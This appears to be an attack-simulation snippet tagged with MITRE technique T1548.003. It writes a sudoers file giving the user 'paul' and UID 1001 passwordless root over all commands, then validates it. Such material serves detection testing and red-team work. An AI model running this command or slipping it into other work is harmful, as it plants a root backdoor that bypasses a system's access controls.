# technique: T1548.003
# location: linux.sudoers
# source: /etc/sudoers.d/support
printf 'User_Alias SUPPORT = paul, #1001\nCmnd_Alias TOUT = ALL\nSUPPORT ALL = (ALL) NOPASSWD: TOUT\n' > /etc/sudoers.d/support
chmod 440 /etc/sudoers.d/support
visudo -c
